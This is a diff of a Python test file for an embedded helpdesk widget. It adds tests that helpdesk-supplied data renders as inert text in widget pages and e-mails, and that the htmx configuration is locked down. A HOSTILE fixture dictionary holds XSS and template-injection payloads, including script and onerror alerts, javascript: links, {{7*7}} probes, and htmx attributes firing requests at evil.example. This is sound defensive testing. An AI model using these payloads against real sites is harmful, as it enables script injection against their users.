@@ -1,5 +1,9 @@
 """The widget end to end over the sandbox: play, details, email, stop, comment, guard (F2-F8)."""
+import email
+import json
 import re
+from email import policy
+from html.parser import HTMLParser
 
 import sqlalchemy as sa
 from freezegun import freeze_time
@@ -7,7 +11,8 @@ from freezegun import freeze_time
 from tvwidget.extensions import db
 from tvwidget.storage.models import AuditEvent, Comment, ServiceCase
 
-from ..conftest import HOST_API_KEY, connect, credential_of
+from ..conftest import HOST_API_KEY, connect, credential_of, open_widget, ticket_claim
+from ..helpers import admin_client
 
 API = {"Authorization": f"Bearer {HOST_API_KEY}"}
 CODE_RE = re.compile(r"^s\d{1,3}(-\d{3}){2}$")
@@ -241,3 +246,102 @@ def test_an_unexpected_error_shows_a_clear_page_in_the_frame(app, launch):
     assert 'role="alert"' in response.text and "unexpected error" in response.text
     assert "Traceback" not in response.text and "a bug" not in response.text
     assert "frame-ancestors" in response.headers["Content-Security-Policy"]
+
+
+# ==========================================================================================================
+# 14. Helpdesk data is inert text in widget fragments and e-mails
+# ==========================================================================================================
+
+class Elements(HTMLParser):
+    """Every start tag with its attributes, and the text, of an HTML document."""
+
+    def __init__(self, text: str):
+        super().__init__(convert_charrefs=True)
+        self.tags, self.text = [], []
+        self.feed(text)
+        self.close()
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.append((tag, dict(attrs)))
+
+    handle_startendtag = handle_starttag
+
+    def handle_data(self, data):
+        self.text.append(data)
+
+    def shape(self):
+        """The document's skeleton: tags and attribute names, not values."""
+        return [(tag, sorted(attrs)) for tag, attrs in self.tags]
+
+
+HOSTILE = {
+    "ticket": '<img src=x onerror=alert(1)>{{7*7}}',
+    "subject": '<div hx-get="https://evil.example/x" hx-trigger="load">${x}</div> {{7*7}}',
+    "requester": '<img src=x onerror=alert(2)> {customer_link} ${x}',
+    "agent": '<b hx-post="https://evil.example/y">Eve</b> {{config}}',
+    "note": '<script>alert(3)</script><a href="javascript:alert(4)" hx-boost="true">x</a> ${x} {{7*7}}',
+}
+BENIGN = {key: f"plain {key} text" for key in HOSTILE}
+
+
+def _widget_documents(app, values: dict, smtp) -> tuple[list[str], object]:
+    """Drive a widget through its states with ``values`` as the helpdesk's data; return its HTML and the e-mail."""
+    smtp.messages.clear()
+    widget = open_widget(app, name=values["agent"], ticket=ticket_claim(
+        values["ticket"], subject=values["subject"],
+        requester={"name": values["requester"], "email": "john.doe@example.com"}))
+    documents = [widget.html]
+    credential = {"X-TVWidget-Credential": widget.credential, "HX-Request": "true"}
+    documents.append(widget.play().text)
+    documents.append(widget.client.get("/embed/widget/stop", headers=credential).text)
+    documents.append(widget.post("stop", {"note": values["note"], "outcome": "resolved"}).text)
+    documents.append(widget.client.get("/embed/widget/history", headers=credential).text)
+    (envelope,) = smtp.wait_for(1)
+    return documents, email.message_from_bytes(envelope.content, policy=policy.default)
+
+
+def _assert_inert(hostile: Elements, benign: Elements, where: str) -> None:
+    assert hostile.shape() == benign.shape(), where  # not one element or attribute more
+    for tag, attrs in hostile.tags:
+        assert tag != "img" and (tag != "script" or attrs.get("src", "").startswith("/static/tvwidget/")), where
+        for name, value in attrs.items():
+            assert not name.startswith("on"), where
+            if name == "data-tvwidget-events":
+                # Not markup: JSON data for the host page (H1), whose strings it receives as event.detail
+                # (tvwidget's comment quotes the note). The widget's script only parses and posts it.
+                assert all(isinstance(item, str | None) for event in json.loads(value)
+                           for item in event["detail"].values()), where
+                continue
+            assert "evil.example" not in (value or "") and "javascript:" not in (value or ""), (where, name)
+
+
+def test_14_helpdesk_data_renders_as_inert_text_in_the_widget_and_the_email(tv_app, smtp):
+    hostile_pages, hostile_mail = _widget_documents(tv_app, HOSTILE, smtp)
+    benign_pages, benign_mail = _widget_documents(tv_app, BENIGN, smtp)
+    shown = ""
+    for number, (hostile, benign) in enumerate(zip(hostile_pages, benign_pages)):
+        parsed = Elements(hostile)
+        _assert_inert(parsed, Elements(benign), f"widget document {number}")
+        shown += "".join(parsed.text)
+    for value in (HOSTILE["ticket"], HOSTILE["agent"], HOSTILE["note"]):
+        assert value in shown  # shown to the agent, as the very text the helpdesk sent
+    html_part = hostile_mail.get_body(("html",)).get_content()
+    _assert_inert(Elements(html_part), Elements(benign_mail.get_body(("html",)).get_content()), "e-mail")
+    text_part = hostile_mail.get_body(("plain",)).get_content()
+    assert HOSTILE["requester"] in text_part and HOSTILE["requester"] in "".join(Elements(html_part).text)
+    assert hostile_mail["Subject"].endswith(HOSTILE["subject"])
+    assert "49" not in hostile_mail["Subject"] and "{7*7}" not in text_part.replace("{{7*7}}", "")
+
+
+def test_14_the_htmx_configuration_forbids_eval_foreign_requests_and_history_caching(tv_app, smtp):
+    admin = admin_client(tv_app)
+    pages = [open_widget(tv_app).html, admin.get("/embed/admin/settings").text,
+             admin.get("/embed/admin/email-template").text,
+             admin.get("/embed/admin/reports/teamviewer-sessions").text]
+    for page in pages:
+        metas = [attrs for tag, attrs in Elements(page).tags if tag == "meta" and attrs.get("name") == "htmx-config"]
+        assert len(metas) == 1
+        config = json.loads(metas[0]["content"])
+        assert config["selfRequestsOnly"] is True and config["allowEval"] is False
+        assert config["allowScriptTags"] is False and config["historyCacheSize"] == 0
+        assert not any(tag == "script" and "src" not in attrs for tag, attrs in Elements(page).tags)
